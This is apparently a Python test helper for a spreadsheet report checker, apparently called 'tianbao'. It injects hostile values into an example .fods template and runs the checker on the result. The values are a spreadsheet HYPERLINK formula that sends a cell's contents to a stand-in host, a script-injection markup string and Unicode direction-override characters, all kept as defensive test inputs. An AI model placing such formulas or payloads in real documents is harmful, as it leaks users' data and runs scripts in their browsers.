"""The forms and the runs that the tests of the reports share."""
import os
import pathlib
import subprocess

ROOT = pathlib.Path(__file__).resolve().parents[2]
EXAMPLE = ROOT / "templates" / "department-goals" / "example.fods"
TIMEOUT = 60

# What a hostile person might fill in: a formula, markup, quotes, a line break, a change of
# direction. The last one is as it must be written in XML.
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"x")'
MARKUP = '"><script>alert(1)</script><img src=x onerror=alert(2)>\'&amp;'
DIRECTION = "甲\u202e乙\u2066丙"


def xml(text):
    for plain, escaped in (("&", "&amp;"), ("<", "&lt;"), (">", "&gt;"), ('"', "&quot;")):
        text = text.replace(plain, escaped)
    return text


def write_example(path, **changes):
    """The example with texts replaced by others, given as a list of (old, new) in XML."""
    text = EXAMPLE.read_text(encoding="utf-8")
    for old, new in changes["replaced"]:
        assert old in text, old
        text = text.replace(old, new)
    path.write_text(text, encoding="utf-8")
    return path


def write_hostile(path, department=FORMULA, sheet=FORMULA, project_type=MARKUP):
    return write_example(path, replaced=[("云岭县水利局", xml(department)),
                                         ('table:name="申报表"', f'table:name="{xml(sheet)}"'),
                                         ("长期项目", xml(project_type))])


def report(program, style, *arguments, language="en", cwd=None):
    """Standard output and exit status of a check; what it says on standard error is dropped."""
    environment = {**os.environ, "TIANBAO_TEMPLATES": str(ROOT / "templates"),
                   "XDG_DATA_HOME": "/nowhere"}
    done = subprocess.run([program, "--lang", language, "check", "--format", style,
                           *map(str, arguments)], env=environment, timeout=TIMEOUT, check=False,
                          capture_output=True, cwd=cwd)
    return done.stdout, done.returncode
